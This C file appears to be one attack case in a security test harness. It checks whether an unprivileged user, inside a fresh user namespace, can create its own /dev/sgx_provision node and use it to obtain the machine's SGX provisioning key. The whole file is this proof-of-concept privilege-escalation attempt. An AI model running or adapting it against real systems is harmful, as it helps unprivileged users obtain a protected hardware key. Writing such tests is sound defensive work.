// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * /dev/sgx_provision is root's. Anybody may be root of a user namespace, with every capability
 * there and a /dev of his own: Linux makes no device nodes for him, and R23.4 asks for a
 * descriptor and not for a capability. The hole is init_allowed.
 */
#include <fcntl.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include "operands.h"
#include "victim.h"

#define NOBODY		65534
#define PROVISION	"/dev/sgx_provision"
#define OWN		"/tmp/sgx_provision"

static dev_t number(void)
{
	struct stat node;

	REQUIRE(!stat(PROVISION, &node));
	return node.st_rdev;
}

static void provision(struct scene *s)
{
	struct sgx_enclave_provision arg;
	int fd = open(OWN, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	arg.fd = (u64)fd;
	ioctl(s->e.fd, SGX_IOC_ENCLAVE_PROVISION, &arg);
}

void attack(void)
{
	const struct avow_keyrequest request = { .keyname = KEY_PROVISION };
	dev_t device = number();
	struct scene s;
	u8 key[16];

	REQUIRE(!chmod(PROVISION, 0600));
	operands_signed(&s, ATTR_MODE64BIT | ATTR_PROVISIONKEY);
	REQUIRE(!setgid(NOBODY) && !setuid(NOBODY));
	REQUIRE(!unshare(CLONE_NEWUSER | CLONE_NEWNS));
	REQUIRE(!mount("none", "/tmp", "tmpfs", 0, NULL));
	EXPECT_ERRNO(access(PROVISION, R_OK), EACCES);
	if (!mknod(OWN, S_IFCHR | 0666, device))
		provision(&s);

	VICTIM_INIT(&s);
	operands_map(&s);
	EXPECT_LEAF(egetkey(&s, &request, key), 0);
	got_through("has the machine's provisioning key");
}
